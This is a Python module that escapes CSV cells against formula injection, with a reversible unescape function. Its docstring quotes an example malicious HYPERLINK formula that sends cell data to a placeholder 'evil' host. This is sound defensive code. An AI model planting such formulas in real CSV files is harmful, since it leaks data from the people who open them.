"""CSV cells a spreadsheet opens as text, never as a formula (CSV/formula injection).

Identifiers come from outside (upstream producers, a user's CSV): one such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` written raw into a CSV runs as a formula when
somebody opens the file in a spreadsheet. Every text cell the project writes to a CSV goes
through ``escape_cell``: a cell starting with ``= + - @``, a tab or a carriage return gets a
leading ``'`` (OWASP's advice), and so does one already starting with ``'``, which keeps the
mapping reversible: ``unescape_cell`` (used when the project reads its CSVs back) removes
exactly one leading ``'``. Numbers are written as numbers and never escaped.
"""

from __future__ import annotations

from collections.abc import Iterable

#: First characters a spreadsheet treats as the start of a formula (or that hide one).
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def escape_cell(value: str) -> str:
    """``value`` made safe to open in a spreadsheet (see the module docstring)."""
    if value and (value[0] in FORMULA_TRIGGERS or value[0] == QUOTE):
        return QUOTE + value
    return value


def unescape_cell(value: str) -> str:
    """The value ``escape_cell`` was given, from what it returned."""
    return value[1:] if value.startswith(QUOTE) else value


def escape_row(row: Iterable[object]) -> list[object]:
    """A CSV row with every text cell escaped (numbers and None as they are)."""
    return [escape_cell(cell) if isinstance(cell, str) else cell for cell in row]
